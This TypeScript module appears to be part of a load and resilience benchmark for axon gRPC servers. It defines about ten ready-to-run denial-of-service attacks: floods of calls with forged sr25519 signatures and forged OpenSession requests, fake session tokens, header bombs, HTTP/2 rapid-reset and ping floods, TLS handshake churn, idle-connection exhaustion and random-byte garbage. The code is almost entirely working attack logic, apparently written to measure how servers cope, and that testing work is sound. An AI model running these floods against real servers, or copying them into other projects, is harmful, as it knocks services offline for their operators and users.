import { randomBytes } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import { AxonService, bodySha256Hex, btauthHeaders, decodeSs58, type Signer, sessionHeaders, signSessionOpen } from '@tensorkit/core'
import { Bench } from '../peers/protocol.js'
import type { Attack, AttackTarget } from './attack.js'
import { floodCalls, framed, type GrpcCall, grpcHeaders, openHttp2, openTcp, openTls, reconnect, spkiSha256Of } from './connect.js'

const inFlight = 64
const connections = 8
// What one connection is used for before it is thrown away, where throwing away is the attack.
const heldMs = 250

const body = Bench.say.request.encode({ data: new Uint8Array(128) })
const framedBody = framed(body)
const bodyHash = bodySha256Hex(body)

/** 64 bytes with the shape of an sr25519 signature. */
function forgedSignature(): Uint8Array {
  const signature = new Uint8Array(randomBytes(64))
  signature[63] = 0x80 | ((signature[63] ?? 0) & 0x0f)
  return signature
}

const nowNs = () => BigInt(Date.now()) * 1_000_000n + BigInt(randomBytes(2).readUInt16BE())

/** A call that claims a registered hotkey, fresh and well formed, signed by nobody. */
const forgedCall = (target: AttackTarget): GrpcCall => ({
  headers: {
    ...grpcHeaders(target, Bench.say.path),
    [btauthHeaders.version]: '1',
    [btauthHeaders.hotkey]: target.claimed,
    [btauthHeaders.receiver]: target.server,
    [btauthHeaders.nonce]: String(nowNs()),
    [btauthHeaders.signature]: `0x${Buffer.from(forgedSignature()).toString('hex')}`,
    [btauthHeaders.bodySha256]: bodyHash,
  },
  body: framedBody,
})

/** An `OpenSession` whose text is right in all and whose signature is nobody's. */
async function forgedOpen(target: AttackTarget, spkiSha256: string): Promise<GrpcCall> {
  const signer: Signer = { address: target.claimed, publicKey: decodeSs58(target.claimed), scheme: 'sr25519', sign: forgedSignature }
  const domain = { genesisHash: target.genesisHash, netuid: target.netuid }
  const { text, signature } = await signSessionOpen({ signer, server: target.server, domain, spkiSha256 })
  return {
    headers: {
      ...grpcHeaders(target, AxonService.openSession.path),
      [sessionHeaders.open]: Buffer.from(text).toString('base64'),
      [sessionHeaders.openSignature]: Buffer.from(signature).toString('base64'),
    },
    body: framed(new Uint8Array()),
  }
}

/** Calls without end over a few connections. */
function flood(name: string, about: string, next: (target: AttackTarget, spkiSha256: string) => GrpcCall | Promise<GrpcCall>): Attack {
  return {
    name,
    about,
    run: (target, { signal, count }) =>
      reconnect({ connections, signal }, async () => {
        const connection = await openHttp2(target, count)
        if (connection === undefined) return
        const spkiSha256 = spkiSha256Of(connection.socket)
        await floodCalls(connection, { inFlight, signal, count, next: () => next(target, spkiSha256) })
      }),
  }
}

/**
 * Ways to make an axon work for nothing, none with a key that it knows.
 *
 * Made for the benchmark of what an honest caller notices of them; each can be run by itself with `attacker.js`.
 */
export const attacks: readonly Attack[] = [
  flood('bad-signatures', 'btauth/1 calls in the name of a registered hotkey, fresh nonces, forged signatures', forgedCall),
  flood('bad-opens', 'OpenSession in the name of a registered hotkey, right in all but the signature', forgedOpen),
  flood('bad-tokens', 'calls with session tokens that nobody gave', (target) => ({
    headers: { ...grpcHeaders(target, Bench.say.path), [sessionHeaders.token]: randomBytes(32).toString('hex') },
    body: framedBody,
  })),
  flood('no-credentials', 'calls without any credentials', (target) => ({
    headers: grpcHeaders(target, Bench.say.path),
    body: framedBody,
  })),
  flood('describe', 'Describe, which needs none', (target) => ({
    headers: grpcHeaders(target, AxonService.describe.path),
    body: framed(new Uint8Array()),
  })),
  flood('header-bombs', 'calls with 12 KiB of metadata', (target) => ({
    headers: { ...grpcHeaders(target, Bench.say.path), 'x-bomb': randomBytes(6 * 1024).toString('hex') },
    body: framedBody,
  })),
  {
    name: 'rapid-reset',
    about: 'streams that are reset as soon as they are opened',
    run: (target, { signal, count }) =>
      reconnect({ connections, signal }, async () => {
        const connection = await openHttp2(target, count)
        if (connection === undefined) return
        const { session } = connection
        while (!signal.aborted && !session.closed && !session.destroyed) {
          for (let i = 0; i < inFlight && !session.destroyed; i++) {
            count.attempts++
            const stream = session.request(grpcHeaders(target, Bench.say.path))
            stream.on('error', () => {})
            stream.close(8)
          }
          await new Promise((resolve) => setImmediate(resolve))
        }
        session.destroy()
      }),
  },
  {
    name: 'pings',
    about: 'HTTP/2 pings and settings without end',
    run: (target, { signal, count }) =>
      reconnect({ connections, signal }, async () => {
        const connection = await openHttp2(target, count)
        if (connection === undefined) return
        const { session } = connection
        while (!signal.aborted && !session.closed && !session.destroyed) {
          for (let i = 0; i < 8 && !session.destroyed; i++) {
            count.attempts++
            session.ping(() => {})
          }
          if (!session.destroyed) session.settings({ initialWindowSize: 65_535 + (count.attempts % 1_000) })
          await new Promise((resolve) => setImmediate(resolve))
        }
        session.destroy()
      }),
  },
  {
    name: 'handshakes',
    about: 'TLS handshakes, each connection thrown away when it is made',
    run: (target, { signal, count }) =>
      reconnect({ connections, signal }, async () => {
        const socket = await openTls(target, count)
        socket?.destroy()
      }),
  },
  {
    name: 'idle-connections',
    about: 'connections that say nothing, as many as are let in',
    run: (target, { signal, count }) =>
      reconnect({ connections: 64, signal }, async () => {
        const socket = await openTcp(target, count)
        if (socket === undefined) return
        await sleep(heldMs)
        socket.destroy()
      }),
  },
  {
    name: 'garbage',
    about: 'random bytes, in plain text and inside TLS',
    run: (target, { signal, count }) =>
      reconnect({ connections, signal }, async () => {
        const socket = await (count.attempts % 2 === 0 ? openTcp(target, count) : openTls(target, count))
        if (socket === undefined) return
        socket.end(randomBytes(16 * 1024))
        await new Promise((resolve) => (socket.destroyed ? resolve(undefined) : socket.once('close', resolve)))
      }),
  },
]
